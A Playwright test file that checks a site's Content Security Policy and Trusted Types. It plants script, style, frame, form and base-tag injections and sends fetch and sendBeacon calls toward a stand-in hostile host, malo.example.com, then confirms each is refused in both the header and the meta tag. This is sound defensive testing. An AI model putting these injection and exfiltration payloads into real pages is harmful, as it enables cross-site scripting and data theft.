import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { BrowserContext, Page } from '@playwright/test';
import { expect, type Problems, test } from './support/test.ts';

const STRANGER = 'https://malo.example.com';
const META = /<meta http-equiv="content-security-policy"[^>]*>/;

/** The policy stands in two places; each must do without the other. */
const PLACES = ['the response header', 'the page itself'] as const;
type Place = (typeof PLACES)[number];

/** What someone may manage to put into the page, and the directive that refuses it; what is marked is pressed. */
const PLANTED = {
  'an inline script': ['<script>window.planted = true</script>', 'script-src-elem'],
  'a module': ['<script type="module">window.planted = true</script>', 'script-src-elem'],
  'an event handler': ['<img src="data:," alt="" onerror="window.planted = true">', 'script-src-attr'],
  'a link that runs': [
    '<a data-press href="javascript:void(window.planted = true)">x</a>',
    'script-src-elem',
  ],
  'a foreign script': [`<script src="${STRANGER}/a.js"></script>`, 'script-src-elem'],
  'a style element': ['<style>body { visibility: hidden }</style>', 'style-src-elem'],
  'a style attribute': ['<p style="visibility: hidden">x</p>', 'style-src-attr'],
  'a foreign style sheet': [`<link rel="stylesheet" href="${STRANGER}/a.css">`, 'style-src-elem'],
  'a frame': [`<iframe src="${STRANGER}/"></iframe>`, 'frame-src'],
  'a script in a frame of its own': [
    '<iframe srcdoc="<script>parent.planted = true</script>"></iframe>',
    'script-src-elem',
  ],
  'an object': [`<object data="${STRANGER}/a.pdf"></object>`, 'object-src'],
  'a form that posts elsewhere': [
    `<form data-press method="post" action="${STRANGER}/"><input name="clave" value="1"></form>`,
    'form-action',
  ],
  'a form that asks the page itself': [
    '<form data-press><input name="clave" value="1"></form>',
    'form-action',
  ],
  'an image that reports the visit': [`<img src="${STRANGER}/a.gif?visita" alt="">`, 'img-src'],
  'another base for links': [`<base href="${STRANGER}/">`, 'base-uri'],
} as const;

/** What a script that already runs may try next; each gives back what came of it. */
const SINKS = {
  'markup into an element': [
    () => void document.body.insertAdjacentHTML('beforeend', '<img src="data:,">'),
    'require-trusted-types-for',
  ],
  'a script with an address': [
    () => {
      document.createElement('script').src = '/x.js';
    },
    'require-trusted-types-for',
  ],
  'text as code': [
    // In a turn of its own: what a driver runs at once may do so.
    () => new Promise((later) => setTimeout(later)).then(() => new Function('window.planted = true')()),
    'require-trusted-types-for',
  ],
  'a rule of its own for trusted markup': [
    () => {
      const { trustedTypes } = window as unknown as { trustedTypes: { createPolicy(name: string): void } };
      trustedTypes.createPolicy('default');
    },
    'trusted-types',
  ],
} as const;

/** Opens the page with something planted in it and the policy in one place only; gathers what strangers are asked. */
async function openPlanted(page: Page, markup: string, place: Place): Promise<readonly string[]> {
  const asked = await strangersAsked(page.context());
  await page.route('/', async (route) => {
    const answer = await route.fetch();
    const { 'content-length': _length, ...headers } = answer.headers();
    if (place === 'the page itself') delete headers['content-security-policy'];
    const html = (await answer.text()).replace('</main>', () => `${markup}</main>`);
    const body = place === 'the response header' ? html.replace(META, '') : html;
    await route.fulfill({ status: answer.status(), headers, body });
  });
  await page.goto('/');
  return asked;
}

async function strangersAsked(context: BrowserContext): Promise<string[]> {
  const asked: string[] = [];
  await context.route(`${STRANGER}/**`, (route) => {
    asked.push(route.request().url());
    return route.fulfill({ body: '' });
  });
  return asked;
}

/** Signs that something planted took effect. */
function harm(page: Page) {
  return page.evaluate(() => ({
    ran: 'planted' in window,
    base: new URL(document.baseURI).host,
    hidden: [document.body, ...document.querySelectorAll('main > p')].filter(
      (element) => getComputedStyle(element).visibility === 'hidden',
    ).length,
    query: location.search,
  }));
}

/** Presses or sends what is marked, past the page's own script, which holds any form that is not live. */
function press(): void {
  const target = document.querySelector<HTMLElement>('[data-press]');
  if (target instanceof HTMLFormElement) target.submit();
  else target?.click();
}

/** Waits until the policy has refused something for this directive. */
async function expectRefusal({ found, allow }: Problems, directive: string) {
  allow(/content security policy|refused to|requires 'Trusted|trusted ?types/i);
  await expect.poll(() => found.join('\n')).toContain(`violation: ${directive} `);
}

for (const place of PLACES) {
  for (const [what, [markup, directive]] of Object.entries(PLANTED)) {
    test(`${what} planted in the page is refused by ${place}`, async ({ page, problems, baseURL }) => {
      const asked = await openPlanted(page, markup, place);
      await page.evaluate(press);
      await expectRefusal(problems, directive);
      const host = new URL(baseURL ?? '').host;
      expect(await harm(page)).toEqual({ ran: false, base: host, hidden: 0, query: '' });
      expect(asked).toEqual([]);
    });
  }

  for (const [what, [attempt, directive]] of Object.entries(SINKS)) {
    test(`${what}, tried by a script, is refused by ${place}`, async ({ page, problems }) => {
      await openPlanted(page, '', place);
      await expect(page.evaluate(attempt)).rejects.toThrow(/TypeError|EvalError/);
      await expectRefusal(problems, directive);
      expect(await harm(page)).toMatchObject({ ran: false });
    });
  }

  test(`words are sent nowhere but to the e-mail service: refused by ${place}`, async ({
    page,
    problems,
  }) => {
    const asked = await openPlanted(page, '', place);
    const send = (url: string) => fetch(url, { method: 'POST', body: 'palabras' }).then(() => 'sent');
    await expect(page.evaluate(send, `${STRANGER}/`)).rejects.toThrow('Failed to fetch');
    await page.evaluate((url) => navigator.sendBeacon(url, 'palabras'), `${STRANGER}/`);
    await expectRefusal(problems, 'connect-src');
    expect(asked).toEqual([]);
  });
}

test('the same things take effect where no policy stands: the tests above would see them', async ({
  page,
}) => {
  const asked = await strangersAsked(page.context());
  const all = Object.values(PLANTED).map(([markup]) => markup);
  const html = `<!doctype html><title>x</title><main>${all.join('')}</main>`;
  await page.route('/', (route) => route.fulfill({ contentType: 'text/html', body: html }));
  await page.goto('/');
  const done = { ran: true, base: 'malo.example.com', hidden: 2 };
  await expect.poll(() => harm(page)).toMatchObject(done);
  expect(new Set(asked.map((url) => new URL(url).pathname))).toEqual(
    new Set(['/a.js', '/a.css', '/', '/a.pdf', '/a.gif']),
  );
});

test('another site cannot show the page in a frame of its own', async ({ page, problems, baseURL }) => {
  const other = createServer((_request, response) => {
    response.setHeader('Content-Type', 'text/html');
    response.end(`<iframe src="${baseURL}/"></iframe>`);
  });
  await new Promise<void>((ready) => other.listen(0, 'localhost', ready));
  await page.goto(`http://localhost:${(other.address() as AddressInfo).port}/`);
  problems.allow(/frame-ancestors/);
  await expect.poll(() => problems.found.join('\n')).toContain(`"frame-ancestors 'none'"`);
  await expect(page.frameLocator('iframe').locator('#hero')).toHaveCount(0);
  other.close();
});
